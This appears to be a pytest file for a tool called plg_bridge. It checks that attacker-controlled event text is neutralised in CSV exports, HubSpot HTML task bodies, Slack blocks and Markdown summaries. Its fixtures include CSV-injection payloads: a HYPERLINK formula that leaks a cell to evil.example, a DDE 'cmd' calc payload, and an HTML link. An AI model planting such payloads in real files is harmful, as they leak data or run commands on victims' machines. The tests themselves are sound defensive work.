"""Attacker-controlled event text (anyone can send events with a public PostHog key) stays inert in
every output: CSV files, HubSpot's HTML task body, the run summary's Markdown and Slack blocks."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd

from plg_bridge.delivery.hubspot.mapping import task_records
from plg_bridge.delivery.slack.mapping import alert_messages, alert_records
from plg_bridge.pipeline import score_export, write_outputs
from plg_bridge.report.summary import render_markdown
from plg_bridge.storage import location
from tests.support.clocks import AS_OF
from tests.support.events import event, group_identify, write_export

CLI = str(Path(sys.executable).parent / "plg-bridge")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
LINK = '<a href="http://evil.example">claim your credit</a>'


def hostile_rows() -> list[dict]:
    rows = [event("core_feature_used", "2026-11-19") for _ in range(3)]
    rows += [event("creation_event", "2026-11-15", distinct_id=f"u{i}") for i in range(3)]
    rows += [event("integration_connected", "2026-11-15", org="@SUM(1+1)")]
    rows += [group_identify("org_a", "2026-11-01", name=FORMULA)]
    rows += [
        event(
            "enterprise_feature_clicked", "2026-11-19T09:00", props={"feature_name": "-2+3+cmd|' /C calc'!A0"}
        )
    ]
    return rows


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert_csv(text: str) -> None:
    bad = [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert bad == [], f"formula-like cells left raw: {bad}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_score_output_and_scores_csv_neutralise_formulas(tmp_path):
    write_export(tmp_path / "exports", hostile_rows())
    out = tmp_path / "scores.csv"
    done = subprocess.run(
        [CLI, "score", "--events", str(tmp_path / "exports"), "--as-of", "2026-11-20", "--output", str(out)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    text = out.read_text()
    _assert_inert_csv(text)
    scores = pd.read_csv(out)
    assert "'" + FORMULA in scores["org_name"].tolist()
    assert "'@SUM(1+1)" in scores["org_id"].tolist()
    assert scores["pql_score"].dtype.kind == "i", "numbers stay numbers"

    # the DAG's scores.csv under the work location
    result = score_export(location(str(tmp_path / "exports")), AS_OF, _settings())
    work = location(str(tmp_path / "work"))
    write_outputs(result, work, "runs/as_of=2026-11-20")
    _assert_inert_csv(work.read_bytes("runs/as_of=2026-11-20/scores.csv").decode())
    assert FORMULA in result.scores["org_name"].tolist(), "only the CSV is neutralised, not the data"


def test_model_command_csv_output_is_neutralised(tmp_path):
    write_export(tmp_path / "exports", hostile_rows())
    out = tmp_path / "signals.csv"
    done = subprocess.run(
        [
            CLI,
            "signals",
            "--events",
            str(tmp_path / "exports"),
            "--as-of",
            "2026-11-20",
            "--output",
            str(out),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    text = out.read_text()
    assert "-2+3+cmd" in text, "the hostile detail reached the signals table"
    _assert_inert_csv(text)


def _settings():
    from plg_bridge.config import load_settings

    return load_settings(env={})


def _signals(detail: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "signal_key": ["enterprise_interest:org_a:2026-11-19"],
            "signal": ["enterprise_interest"],
            "org_id": ["org_a"],
            "org_name": ["Acme"],
            "distinct_id": [None],
            "email": [None],
            "detail": [detail],
            "occurred_at": pd.to_datetime(["2026-11-19T10:00:00Z"]),
            "as_of": ["2026-11-20"],
            "pql_score": [80],
            "is_pql": [True],
        }
    )


def test_hubspot_task_body_escapes_html():
    body = task_records(_signals(LINK))[0]["payload"]["hs_task_body"]
    assert "<a" not in body and "</a>" not in body
    assert "&lt;a href=&quot;http://evil.example&quot;&gt;claim your credit&lt;/a&gt;" in body
    plain = task_records(_signals("SSO"))[0]["payload"]["hs_task_body"]
    assert plain.endswith("Detail: SSO."), "ordinary details are unchanged (same payload hash as before)"


def test_slack_text_objects_are_verbatim():
    crossed = pd.DataFrame(
        {
            "org_id": ["org_a"],
            "org_name": ["<!channel> http://evil.example"],
            "events_this_week": [10],
            "events_last_week": [5],
            "active_creators": [3],
            "integrations_connected": [1],
            "pql_score": [80],
            "is_pql": [True],
        }
    )
    crossing = crossed[["org_id", "org_name", "pql_score"]].assign(
        signal_key="pql_crossed:org_a", signal="pql_crossed"
    )
    messages = alert_messages(alert_records(crossed, pd.concat([crossing, _signals(LINK)]), "2026-11-20"))
    mrkdwn = []

    def walk(node):
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn":
                mrkdwn.append(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(messages)
    assert len(mrkdwn) >= 4
    assert all(node.get("verbatim") is True for node in mrkdwn), mrkdwn


def test_run_summary_markdown_escapes_data_text():
    summary = {
        "as_of": "2026-11-20",
        "quality": {"rows_read": 10},
        "top": [{"org_id": "org|x", "org_name": LINK, "pql_score": 80, "is_pql": True}],
        "deliveries": [],
        "alerts": [],
    }
    markdown = render_markdown(summary)
    assert "<a" not in markdown and "&lt;a href=" in markdown
    row = next(line for line in markdown.splitlines() if "evil.example" in line)
    assert row.count(" | ") == 3, "data text cannot add table columns"
